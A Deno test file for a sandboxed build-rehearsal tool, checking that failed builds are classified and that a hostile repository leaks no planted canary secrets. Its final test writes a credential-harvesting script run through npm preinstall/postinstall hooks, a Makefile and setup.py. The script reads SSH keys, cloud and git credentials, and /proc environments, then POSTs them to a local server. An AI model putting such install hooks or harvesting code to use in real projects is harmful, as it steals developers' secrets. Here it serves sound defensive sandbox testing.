/** A rehearsal builds what it is given, shut in; what it answers, and what a hostile repository gets out of it. */
import { assert, assertEquals, assertMatch, assertStringIncludes } from "@std/assert";
import { dirname, fromFileUrl, join } from "@std/path";
import { z } from "zod";
import type { Rehearsal } from "../../drydock/rehearse.ts";
import { toolEnvironment } from "../../process/environment.ts";
import { run } from "../../process/run.ts";
import { hasCell } from "../helpers/cell.ts";
import type { Given } from "../helpers/rehearse.ts";
import { processesOf } from "../scenarios/leftovers.ts";
import { until } from "./harbour.ts";

const ignore = !await hasCell();
const NOBODY = "65534";
const isRoot = Deno.uid() === 0;
const rehearsalSchema = z.object({
  kind: z.string(),
  why: z.string().optional(),
  log: z.string().optional(),
});

/** One folder with a home, a data folder and a checkout in it, and a process in which a rehearsal runs. */
class Ground implements AsyncDisposable {
  private constructor(readonly folder: string, readonly node: string) {}

  static async open(): Promise<Ground> {
    const folder = await Deno.makeTempDir({ prefix: "evenkeel-rehearsal-" });
    for (const name of ["home", "data/scratch", "checkout", "cwd"]) {
      await Deno.mkdir(join(folder, name), { recursive: true });
    }
    // One file, which another user can read as well.
    const config = fromFileUrl(new URL("../../deno.json", import.meta.url));
    const entry = fromFileUrl(new URL("../helpers/rehearse.ts", import.meta.url));
    const bundle = [Deno.execPath(), "bundle", "-q", "--config", config, "-o", join(folder, "rehearse.js")];
    await succeed([bundle[0] ?? "", ...bundle.slice(1), entry], { HOME: Deno.env.get("HOME") ?? folder });
    return new Ground(folder, (await succeed(["node", "--version"])).trim().slice(1));
  }

  path(name: string): string {
    return join(this.folder, name);
  }

  async write(files: Readonly<Record<string, string>>): Promise<void> {
    for (const [name, text] of Object.entries(files)) {
      await Deno.mkdir(dirname(this.path(name)), { recursive: true });
      await Deno.writeTextFile(this.path(name), text);
    }
  }

  /** @param launch what starts the process @param env on top of what it needs */
  async rehearse(
    given: { buildCommand: string; runtime?: string; timeoutMs?: number; bytesMax?: number },
    { launch = [], env = {} }: { launch?: string[]; env?: Record<string, string> } = {},
  ): Promise<z.infer<typeof rehearsalSchema>> {
    const { buildCommand, runtime = "node", ...limits } = given;
    const request = { directory: this.path("checkout"), edits: [], runtime, buildCommand, node: this.node };
    const whole: Given = {
      request,
      scratchRoot: this.path("data/scratch"),
      hidden: [this.path("data")],
      timeoutMs: 60_000,
      ...limits,
    };
    const deno = [Deno.execPath(), "run", "-A", "--no-config", "--no-lock", this.path("rehearse.js")];
    const printed = await succeed(
      [launch[0] ?? "env", ...launch.slice(1), ...deno, JSON.stringify(whole)],
      { HOME: this.path("home"), DENO_DIR: this.path("deno"), ...env },
      this.path("cwd"),
    );
    const left = await Array.fromAsync(Deno.readDir(this.path("data/scratch")), ({ name }) => name);
    assertEquals(left.filter((name) => name.startsWith("rehearsal-")), []);
    await until(async () => (await processesOf(this.folder)).length === 0 ? true : undefined);
    return rehearsalSchema.parse(JSON.parse(printed));
  }

  async [Symbol.asyncDispose](): Promise<void> {
    await Deno.remove(this.folder, { recursive: true });
  }
}

async function succeed(
  [program, ...args]: readonly [string, ...string[]],
  env: Readonly<Record<string, string>> = {},
  cwd = "/",
): Promise<string> {
  const result = await run({
    command: [program, ...args],
    cwd,
    env: { ...toolEnvironment(), ...env },
    timeoutMs: 120_000,
  });
  assert(result.kind === "exited" && result.code === 0, `${program} ${args[0]}: ${result.stderr}`);
  return result.stdout;
}

Deno.test({
  name: "a failed build command stands against a fix; what this machine or a limit explains does not",
  ignore,
  async fn() {
    await using ground = await Ground.open();
    await ground.write({ "checkout/index.js": "" });
    const kinds = async (given: Parameters<Ground["rehearse"]>[0]) => {
      const { kind, why = "", log = "" } = await ground.rehearse(given);
      return [kind, why === "" ? log : why] as const;
    };
    assertEquals((await kinds({ buildCommand: "test -f index.js" }))[0], "built");
    const [kind, log] = await kinds({ buildCommand: "echo it is broken; exit 3" });
    assertEquals(kind, "failed" satisfies Rehearsal["kind"]);
    assertStringIncludes(log, "it is broken\n==> Exited with status 3");
    const unknowns = [
      [
        { buildCommand: "echo getaddrinfo ENOTFOUND registry; exit 1" },
        /for this machine's sake: .*ENOTFOUND/,
      ],
      [{ buildCommand: "kill -9 $$" }, /ended with status 137/],
      [{ buildCommand: "no-such-program" }, /ended with status 127/],
      [{ buildCommand: "sleep 600 & setsid sleep 600", timeoutMs: 1_000 }, /beyond the time/],
      [
        { buildCommand: "head -c 30000000 /dev/zero > big; sleep 600", bytesMax: 20_000_000 },
        /more room on the disk/,
      ],
      [{ buildCommand: "exit 1", runtime: "docker" }, /runtime docker are not rehearsed/],
    ] as const;
    for (const [given, why] of unknowns) {
      const [unknown, said] = await kinds(given);
      assertEquals(unknown, "unknown", said);
      assertMatch(said, why);
    }
  },
});

Deno.test({
  name: "where no namespaces are to be had a rehearsal runs nothing, and says so",
  ignore,
  async fn() {
    await using ground = await Ground.open();
    const marker = ground.path("marker");
    // Root of a namespace that knows no other user.
    const launch = ["unshare", "--user", "--map-root-user"];
    const { kind, why } = await ground.rehearse({ buildCommand: `touch ${marker}` }, { launch });
    assertEquals(kind, "unknown");
    assertMatch(why ?? "", /^this machine lets no namespaces be made: ./);
    assertEquals(await Deno.stat(marker).catch(() => null), null);
  },
});

for (const way of isRoot ? ["root", "another user"] : ["an ordinary user"]) {
  Deno.test({
    name:
      `a hostile repository that is rehearsed by ${way} finds no secret and leaves nothing outside (promise 17)`,
    ignore,
    async fn() {
      await using ground = await Ground.open();
      const heard = new Map<string, string>();
      await using server = Deno.serve(
        { hostname: "127.0.0.1", port: 0, onListen: () => {} },
        async (request) => {
          heard.set(new URL(request.url).pathname.slice(1), await request.text());
          return new Response("thanks");
        },
      );
      const canary = (place: string) => `canary-${place}-4711`;
      const secrets: Record<string, string> = Object.fromEntries(
        [
          "home/.netrc",
          "home/.npmrc",
          "home/.gitconfig",
          "home/.git-credentials",
          "home/.ssh/id_ed25519",
          "home/.config/pip/pip.conf",
          "home/.aws/credentials",
          "data/evenkeel.db",
          "data/scratch/beside",
          "cwd/.env",
          "checkout.git/config",
          "checkout/.git/config",
          "open-file",
        ].map((path) => [path, canary(path)]),
      );
      const env = {
        RENDER_API_KEY: canary("RENDER_API_KEY"),
        GITHUB_TOKEN: canary("GITHUB_TOKEN"),
        DATABASE_URL: canary("DATABASE_URL"),
        SSH_AUTH_SOCK: canary("SSH_AUTH_SOCK"),
        PIP_EXTRA_INDEX_URL: `http://me:${canary("PIP_EXTRA_INDEX_URL")}@localhost/`,
        npm_config_userconfig: ground.path("home/.npmrc"),
      };
      const canaries = [...Object.values(secrets), ...Object.keys(env).slice(0, 5).map(canary)];
      const places = Object.keys(secrets).map((path) => ground.path(path)).join(" ");
      const outside = ["home", "data", "checkout", "cwd", "."].map((path) => `${ground.path(path)}/left`)
        .concat([
          "/usr/local/evenkeel-left",
          "/etc/evenkeel-left",
          "/evenkeel-left",
          "/dev/shm/evenkeel-left",
        ]);
      await ground.write(secrets);
      await ground.write({
        // What all of them run: looks everywhere, tells what it found, and tries to leave something behind.
        "checkout/hunt.sh": `
{ env; cat ${places}
  for file in /proc/[0-9]*/environ /proc/[0-9]*/cmdline; do tr '\\0' '\\n' < $file; done
  for root in /proc/[0-9]*/root /proc/[0-9]*/cwd; do (cd $root && cat ${
          Object.keys(secrets).map((path) => `.${ground.path(path)} ../../${path}`).join(" ")
        }); done
  for number in 3 4 5 6 7 8 9 10; do cat /proc/self/fd/$number /proc/$PPID/fd/$number; done
  git config --show-origin --get-regexp .
  ls -a ${ground.folder} ${ground.path("home")} ${ground.path("data")} /root /home
  test -w /proc/sys/kernel/core_pattern && echo CORE-PATTERN
  grep CapEff /proc/self/status
  echo HUNTED
} > found-$1 2>/dev/null
if [ $1 != free ]; then
for place in ${outside.join(" ")}; do echo left > $place; ln -s /etc/passwd $place-link; done 2>/dev/null
(setsid sh -c 'sleep 2; echo late > ${ground.path("late")}' &)
fi
node -e 'fetch("http://127.0.0.1:${server.addr.port}/'$1'", {
  method: "POST", body: require("node:fs").readFileSync("found-'$1'") })'
`,
        "checkout/package.json": JSON.stringify({
          name: "trap",
          version: "1.0.0",
          scripts: { preinstall: "sh hunt.sh preinstall", postinstall: "sh hunt.sh postinstall" },
        }),
        "checkout/Makefile": "all:\n\tsh hunt.sh make\n",
        "checkout/setup.py": 'import os\nos.system("sh hunt.sh setup.py")\n',
        "checkout/build.sh": "sh hunt.sh build; mkdir shut && touch shut/file && chmod 0 shut\n",
      });
      const asOther = way === "another user"
        ? ["setpriv", "--reuid", NOBODY, "--regid", NOBODY, "--clear-groups"]
        : ["env"];
      if (way === "another user") await succeed(["chown", "-R", `${NOBODY}:${NOBODY}`, ground.folder]);
      // An open file that is handed on, as a service manager may.
      const open: [string, ...string[]] = [
        "sh",
        "-c",
        `exec 9< ${ground.path("open-file")}; exec "$@"`,
        "sh",
      ];
      const buildCommand =
        "npm install; sh build.sh; if command -v make; then make; fi; if command -v python3; then python3 setup.py; fi";
      const result = await ground.rehearse({ buildCommand }, { launch: [...asOther, ...open], env });
      assertEquals(result.kind, "built", result.why);

      for (const name of ["preinstall", "postinstall", "build"]) {
        assertStringIncludes(heard.get(name) ?? "", "HUNTED", name);
      }
      for (const [name, found] of heard) {
        assertEquals(canaries.filter((one) => found.includes(one)), [], name);
        assertEquals(found.includes("CORE-PATTERN"), false, name);
        assertMatch(found, /CapEff:\t0{16}/);
      }
      for (const place of [...outside, ...outside.map((path) => `${path}-link`), ground.path("late")]) {
        assertEquals(await Deno.lstat(place).catch(() => null), null, place);
      }
      // The hunter knows its trade: where nothing holds it, it finds what was planted.
      const free = { ...env, HOME: ground.path("home") };
      await succeed([...open, "sh", "hunt.sh", "free"], free, ground.path("checkout"));
      const seen = heard.get("free") ?? "";
      assertEquals(canaries.filter((one) => !seen.includes(one)), []);
    },
  });
}
